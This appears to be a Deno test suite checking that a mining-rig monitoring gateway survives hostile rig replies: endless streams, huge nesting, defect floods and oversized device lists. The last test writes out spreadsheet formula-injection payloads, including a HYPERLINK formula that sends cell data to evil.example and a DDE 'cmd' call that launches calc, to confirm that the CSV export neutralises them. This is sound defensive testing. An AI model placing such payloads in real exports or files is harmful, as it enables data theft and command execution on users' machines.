// Attacks by a rig: replies that cost more than they should. Each reaches the
// rig, as it is the rig that attacks.

import { assert, assertEquals, assertStringIncludes } from "jsr:@std/assert@1";
import { replyWith } from "../scripted_rig.ts";
import type { AttackName } from "./attack_names.ts";
import { AttackedGateway, REPLY } from "./attacked_gateway.ts";

const MAX_BYTES = 2 * 1024 * 1024;

/** What came of a request. */
interface Served {
  readonly status: number;
  readonly body: string;
  readonly headers: Headers;
}

/** A gateway whose rig attacks. */
class Attacked {
  readonly #gateway: AttackedGateway;

  constructor(gateway: AttackedGateway) {
    this.#gateway = gateway;
  }

  /** Asks, while the rig answers so; somebody else is served all the while. */
  async get(
    path: string,
    reply: string | Uint8Array = REPLY,
  ): Promise<Served> {
    this.#gateway.rig.behaviour = replyWith(reply);
    return await this.ask(path);
  }

  /** Asks, while the rig does what it does. */
  async ask(path: string): Promise<Served> {
    const [response, other] = await Promise.all([
      fetch(this.#url(path)),
      fetch(this.#url("/-/healthz")),
    ]);
    assertEquals([other.status, await other.text()], [200, '{"status":"ok"}']);
    const { status, headers } = response;
    return { status, headers, body: await response.text() };
  }

  /** Asks for a reply that cannot be served, and gives what is said of it. */
  async refuse(
    code: string,
    reply: string | Uint8Array,
    path = "/stats",
  ): Promise<{ detail: string; hint: string }> {
    const { status, body } = await this.get(path, reply);
    const problem = JSON.parse(body);
    assertEquals([status, problem.code], [502, code]);
    return problem;
  }

  /** The first event of a live stream: its name, and its data. */
  async readEvent(
    path: string,
    reply: string | Uint8Array,
  ): Promise<[event: string, data: string]> {
    this.#gateway.rig.behaviour = replyWith(reply);
    const left = new AbortController();
    const headers = { accept: "text/event-stream" };
    const { signal } = left;
    const { body } = await fetch(this.#url(path), { headers, signal });
    let text = "";
    try {
      for await (const part of body!.pipeThrough(new TextDecoderStream())) {
        text += part;
        if (/\nevent: [^]*\n\n$/.test(text)) break;
      }
    } finally {
      left.abort();
    }
    const [, event = "", data = ""] =
      text.match(/\nevent: (.*)\ndata: ([^]*)\n\n$/) ?? [];
    return [event, data.replaceAll("\ndata: ", "\n")];
  }

  #url(path: string): string {
    return `http://127.0.0.1:${this.#gateway.port}${path}`;
  }
}

/** Registers the test of an attack by a rig, which must be served afterwards. */
function testRigAttack(
  name: AttackName,
  attack: (attacked: Attacked, gateway: AttackedGateway) => Promise<void>,
  flags: readonly string[] = [],
): void {
  Deno.test(name, async () => {
    await using gateway = await AttackedGateway.start({ flags });
    const attacked = new Attacked(gateway);
    await attack(attacked, gateway);
    const { status, body } = await attacked.get("/summary");
    assertEquals([status, body], [200, REPLY]);
    await gateway.rig.untilIdle();
  });
}

const nest = (depth: number): string =>
  `{"STATS":${"[".repeat(depth - 1)}${"]".repeat(depth - 1)}}`;

/** JSON of exactly so many bytes. */
const makeLong = (bytes: number): string =>
  `{"id":1,"a":"${"x".repeat(bytes - '{"id":1,"a":""}'.length)}"}`;

testRigAttack("A reply without end", async (attacked, { rig }) => {
  let sent = 0;
  rig.behaviour = async ({ send, closed }) => {
    let isOpen = true;
    closed.then(() => isOpen = false);
    const spaces = new Uint8Array(64 * 1024).fill(0x20);
    for (sent = 0; isOpen; sent += spaces.length) {
      await Promise.race([send(spaces), closed]);
      // A turn of the event loop, or the close would never be seen.
      await new Promise((resolve) => setTimeout(resolve, 0));
    }
  };
  for (const path of ["/stats", "/stats?pretty", "/stats?raw"]) {
    const { status, body } = await attacked.ask(path);
    const { code, detail, hint } = JSON.parse(body);
    assertEquals([status, code], [502, "rig-reply-too-large"]);
    assertStringIncludes(detail, "longer than 2048 KiB");
    assertStringIncludes(hint, "--max-reply");
    await rig.untilIdle();
    // The cap, and what the system takes in for those who do not read.
    assert(sent < 32 * 1024 * 1024, `${sent} bytes were taken`);
  }
  const long = makeLong(MAX_BYTES);
  const [event, data] = await attacked.readEvent("/stats", long);
  assertEquals([event, JSON.parse(data).code], [
    "problem",
    "rig-reply-too-large",
  ]);
  // The NUL counts.
  await attacked.refuse("rig-reply-too-large", long);
  const longest = makeLong(MAX_BYTES - 1);
  assertEquals((await attacked.get("/stats", longest)).body, longest);
});

testRigAttack(
  "A reply longer than --max-reply",
  async (attacked) => {
    const { detail } = await attacked.refuse(
      "rig-reply-too-large",
      makeLong(4096),
    );
    assertStringIncludes(detail, "longer than 4 KiB");
    const longest = makeLong(4095);
    assertEquals((await attacked.get("/stats", longest)).body, longest);
  },
  ["--max-reply=4"],
);

testRigAttack("A reply that nests without end", async (attacked) => {
  const deepest = nest(512);
  assertEquals((await attacked.get("/stats", deepest)).body, deepest);
  const million = "[".repeat(1_000_000);
  for (const reply of [nest(513), nest(500_000), million, `${nest(600)},`]) {
    for (const path of ["/stats", "/stats?pretty"]) {
      const { detail } = await attacked.refuse(
        "rig-reply-invalid",
        reply,
        path,
      );
      assertStringIncludes(detail, "nested more than 512 deep");
    }
    const all = JSON.parse((await attacked.get("/@all/stats", reply)).body);
    assertEquals(all.default.error.code, "rig-reply-invalid");
    const [event, data] = await attacked.readEvent("/stats", reply);
    assertEquals([event, JSON.parse(data).code], [
      "problem",
      "rig-reply-invalid",
    ]);
    const raw = await attacked.get("/stats?raw", reply);
    assertEquals([raw.status, raw.body.length], [200, reply.length + 1]);
  }
});

testRigAttack("A reply of nothing but defects", async (attacked) => {
  const few = 10_000;
  const many = 10_001;
  const odd = (text: string) =>
    Uint8Array.from(text, (character) => character.charCodeAt(0));
  const makers: ((count: number) => string | Uint8Array)[] = [
    (count) => `{"STATS":[${"{}".repeat(count + 1)}]}`,
    (count) => `{"STATS":[1${",nan".repeat(count)}]}`,
    (count) => `{"STATS":"${"\x01".repeat(count)}"}`,
    (count) => `{"STATS":"${"\\x".repeat(count)}"}`,
    (count) => odd(`{"STATS":"${"\xffa".repeat(count)}"}`),
  ];
  for (const make of makers) {
    const { status, headers, body } = await attacked.get("/stats", make(few));
    assertEquals([status, Object.keys(JSON.parse(body))], [200, ["STATS"]]);
    const repaired = headers.get("chi-repaired") ?? "";
    assertStringIncludes(repaired, "and-more; count=9950");
    assert(repaired.length < 2048, `${repaired.length} characters of header`);
    const { detail } = await attacked.refuse("rig-reply-invalid", make(many));
    assertStringIncludes(detail, "more than 10000 defects");
  }
  await attacked.refuse("rig-reply-invalid", odd("\xffa".repeat(1_000_000)));
  const text = odd(`STATUS=S,Msg=${"\xffa".repeat(1_000_000)}|`);
  await attacked.refuse("rig-reply-invalid", text);
  const items = `STATUS=S|${"a=1,".repeat(500_000)}|`;
  const { detail } = await attacked.refuse("rig-reply-invalid", items);
  assertStringIncludes(detail, "more than 50000 items");
});

testRigAttack("?pretty that makes a hundredfold", async (attacked) => {
  const list = `[${"[".repeat(59)}${"]".repeat(59)}${
    `,${"[".repeat(59)}${"]".repeat(59)}`.repeat(8_000)
  }]`;
  assert(JSON.stringify(JSON.parse(list), null, 4).length > 50 * list.length);
  assertEquals((await attacked.get("/stats?pretty", list)).body, list);
  const all = await attacked.get("/@all/stats?pretty", list);
  assert(all.body.length < 2 * list.length + 1000);
  assertEquals(JSON.parse(all.body).default.length, 8_001);
  assertEquals(await attacked.readEvent("/stats?pretty", list), [
    "reply",
    list,
  ]);
  // What grows less is indented, however long it is.
  const long = `{"STATS":[${Array(100_000).fill('{"a":1}').join(",")}]}`;
  const expected = JSON.stringify(JSON.parse(long), null, 4);
  assert(expected.length < 8 * long.length);
  const pretty = await attacked.get("/stats?pretty", long);
  assertEquals(pretty.body === expected, true);
});

testRigAttack("A reply that comes byte by byte", async (attacked, { rig }) => {
  const reply = makeLong(20_000);
  rig.behaviour = async ({ send }) => {
    for (const byte of reply + "\0") await send(byte);
  };
  const { status, body } = await attacked.ask("/stats");
  assertEquals([status, body], [200, reply]);
});

testRigAttack("A reply of a million members", async (attacked, { rig }) => {
  const devices = (count: number) =>
    `{"STATUS":[{"STATUS":"S","Code":9}],"DEVS":[{"ASC":0}${
      Array.from({ length: count }, (_, n) => `,{"ASC":${n},"Enabled":"Y"}`)
        .join("")
    }]}`;
  const tooMany = devices(60_000);
  const { body } = await attacked.get("/-/rigs", tooMany);
  const [{ state, problem }] = JSON.parse(body).rigs;
  assertEquals([state, problem.code], ["down", "rig-reply-too-large"]);
  const metrics = await attacked.get("/metrics", tooMany);
  assertStringIncludes(metrics.body, 'cgminer_up{rig="default"} 0');
  assertEquals(metrics.body.includes("cgminer_device_up"), false);
  // Somebody may want them all the same.
  assertEquals((await attacked.get("/devs", tooMany)).body, tooMany);
  const many = devices(15_000);
  rig.behaviour = replyWith(many);
  for (const path of ["/-/rigs", "/metrics"]) {
    const served = await attacked.ask(path);
    assertEquals(served.status, 200);
    assert(served.body.length < MAX_BYTES, `${path}: ${served.body.length}`);
  }
});

testRigAttack(
  "A pool's name that is a formula in a spreadsheet",
  async (attacked) => {
    const formula = '=HYPERLINK("http://evil.example?"&A2;"ok")';
    // It says anew what it is when it has restarted.
    let uptimeS = 360_000;
    const names = [
      formula,
      "+cmd|' /C calc'!A0",
      "-cmd|1",
      "@SUM(A1)",
      "\t=cmd",
      "\r=cmd",
      "a;=cmd",
    ];
    for (const name of names) {
      // Commas and quotes would end the cell, and a line break the row.
      for (const text of [name, `${name},=1`, `${name}"\r\n=1`]) {
        const reply = JSON.stringify({
          STATUS: [{ STATUS: "S", When: 1, Code: 11 }],
          SUMMARY: [{ Elapsed: uptimeS -= 3600, "MHS av": 5, Temperature: -5 }],
          POOLS: [{
            POOL: 0,
            URL: "-1.evil.example:1",
            Status: "Alive",
            "Stratum Active": true,
          }],
          VERSION: [{ CGMiner: "4.11.1", API: "3.7", Type: text }],
          id: 1,
        });
        const { body } = await attacked.get("/-/rigs/garage?format=csv", reply);
        const [header = [], row = [], ...others] = readCells(body);
        assertEquals([row.length, others], [header.length, []], body);
        const dangerous = row.filter((cell) =>
          /(?:^|[;\t\r\n])[=+\-@]|^[\t\r]/.test(cell)
        );
        assertEquals(dangerous, ["-5"], body);
        assertEquals(row[header.indexOf("hottest_celsius")], "-5");
        assertEquals(row[header.indexOf("pool")], "'-1.evil.example:1");
        assert(/^'|;'=/.test(row[header.indexOf("model")] ?? ""), body);
      }
    }
  },
);

/** The cells of a table, as RFC 4180 has them. */
function readCells(text: string): string[][] {
  const rows: string[][] = [[]];
  for (
    const [, quoted, bare = "", end] of text.matchAll(
      /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g,
    )
  ) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
    if (end !== ",") rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}
